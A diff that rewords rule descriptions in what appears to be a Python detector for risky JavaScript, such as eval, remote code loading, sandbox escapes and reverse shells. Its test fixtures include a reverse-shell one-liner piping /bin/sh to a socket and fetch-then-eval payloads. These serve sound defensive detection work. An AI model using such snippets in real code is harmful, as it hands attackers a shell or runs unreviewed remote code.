@@ -18,8 +18,8 @@ CHILD_PROCESS = rule(
     "Starts other programs",
     "process",
     MEDIUM,
-    attack="Leaves JavaScript, and everything that watches it, for the shell.",
-    why="MEDIUM: the program's own words are judged where they are known; HIGH where they are decoded.",
+    attack="Leaves JavaScript and everything that monitors it for the shell.",
+    why="MEDIUM: the command is analysed where it is known; HIGH where it is decoded.",
     fix="Do the work in JavaScript.",
     match=(
         "require('child_process').exec(cmd)",
@@ -33,11 +33,11 @@ CHILD_PROCESS = rule(
 )
 EVAL = rule(
     "js-eval",
-    "Runs text as code",
+    "Runs a string as code",
     "exec_eval",
     MEDIUM,
-    attack="Whoever can shape the text decides what runs.",
-    why="MEDIUM: the text is unknown; LOW where it is known, and judged itself; HIGH where it was decoded.",
+    attack="Lets whoever controls the string decide what runs.",
+    why=("MEDIUM: the string is unknown; LOW where it is known and analysed; HIGH where it was decoded."),
     fix="Parse data as JSON; call functions by name from a list.",
     match=(
         "eval(x)",
@@ -53,12 +53,12 @@ EVAL = rule(
 )
 REMOTE_EVAL = rule(
     "js-remote-code",
-    "Runs what it downloads",
+    "Runs downloaded code",
     "exec_eval",
     CRITICAL,
-    attack="Whoever controls the server, or the way to it, decides what runs.",
-    why="CRITICAL: the code that runs is not the code that is reviewed.",
-    fix="Send the code itself for review.",
+    attack="Lets whoever controls the server, or the network path to it, decide what runs.",
+    why="CRITICAL: the code that runs is not the code that was reviewed.",
+    fix="Submit the code itself for review.",
     match=(
         "fetch(u).then(r => r.text()).then(t => eval(t))",
         "require('http').get(u, r => r.on('data', d => new Function(d)()))",
@@ -70,23 +70,23 @@ REMOTE_EVAL = rule(
 )
 DYNAMIC_MODULE = rule(
     "js-dynamic-module",
-    "Loads a module whose name is only known when the code runs",
+    "Loads a module whose name is known only at run time",
     "exec_eval",
     MEDIUM,
-    attack="Loads child_process, or a file of the attacker's, under a name that no search finds.",
+    attack="Loads child_process, or a file of the attacker, under a name that no search finds.",
     why="MEDIUM: plug-in loaders do it too.",
-    fix="Write the module's name.",
+    fix="Write the name of the module.",
     match=("require(name)", "import(path)", "require(base + '/x')"),
     not_match=("require('fs')", "require(__dirname + '/utils')", "const d = 'a'; require(`lodash/${d}`)"),
     cwe=829,
 )
 INTERNALS = rule(
     "js-internals",
-    "Reaches for the internals of the runtime",
+    "Accesses the internals of the runtime",
     "escape",
     HIGH,
-    attack="Gets at modules and native code past `require` and whatever guards it.",
-    why="HIGH: no program needs these doors; they are the known ways out of a JavaScript sandbox.",
+    attack="Reaches modules and native code without `require` and its checks.",
+    why="HIGH: programs do not need these; they are the known ways out of a JavaScript sandbox.",
     fix="Use `require` or `import`.",
     match=(
         "process.binding('spawn_sync')",
@@ -103,9 +103,9 @@ WORKER = rule(
     "Runs code in a worker or as WebAssembly",
     "exec_eval",
     MEDIUM,
-    attack="Runs code where this analysis does not look, or binary code that nobody reads.",
-    why="MEDIUM: honest uses are many; the content is unknown.",
-    fix="Send the source.",
+    attack="Runs code that this analysis does not read, or binary code that no reviewer reads.",
+    why="MEDIUM: legitimate uses are common; the content is unknown.",
+    fix="Submit the source.",
     match=(
         "new WebAssembly.Module(bytes)",
         "new Worker('a', { eval: true })",
@@ -117,11 +117,11 @@ WORKER = rule(
 )
 REVERSE = rule(
     "js-reverse-shell",
-    "Hands a shell to another machine",
+    "Connects a shell to another machine",
     "reverse_shell",
     CRITICAL,
-    attack="Gives whoever listens at the other end a command line on this machine.",
-    why="CRITICAL: there is no honest reason to join a shell's input and output to a socket.",
+    attack="Gives an attacker a command line on this machine.",
+    why="CRITICAL: there is no legitimate reason to connect a shell to a socket.",
     fix="Remove it.",
     match=(
         "s = require('child_process').spawn('/bin/sh'); c = require('net').connect(1, 'h'); c.pipe(s.stdin)",
@@ -135,12 +135,12 @@ REVERSE = rule(
 )
 PROCESS = rule(
     "js-process-control",
-    "Kills processes or changes who it runs as",
+    "Kills processes or changes the user of the process",
     "process_kill",
     MEDIUM,
-    attack="Stops services or guards, or drops and takes rights.",
+    attack="Stops services or monitoring, or gains rights.",
     why="MEDIUM: the sandbox has only its own processes.",
-    fix="End by returning.",
+    fix="End the program by returning.",
     match=("process.kill(pid)", "process.setuid(0)", "process.abort()"),
     not_match=("process.exit(0)", "process.cwd()", "game.kill(player)"),
     cwe=400,
@@ -264,7 +264,7 @@ def _evaluated(program: Program, call: JavaScriptCall, code: JavaScriptValue | N
     if "network" in code.taints:
         yield found(REMOTE_EVAL, program, call)
     elif code.layers or "decoded" in code.taints:
-        yield found(EVAL, program, call, "Runs what it decodes", HIGH)
+        yield found(EVAL, program, call, "Runs decoded code", HIGH)
     else:
         yield found(EVAL, program, call, severity=LOW if code.known else None)
 
@@ -275,7 +275,7 @@ def _loads(program: Program, call: JavaScriptCall) -> Iterator[Violation]:
         return
     if name.known:
         if _ELSEWHERE.match(name.text):
-            yield found(REMOTE_EVAL, program, call, "Loads code from elsewhere")
+            yield found(REMOTE_EVAL, program, call, "Loads code from another host")
         elif re.match(r"/\w", name.text):
             yield found(DYNAMIC_MODULE, program, call, "Loads code from outside of the program")
     elif call.path != "require.resolve" and not _is_beside(program, call):
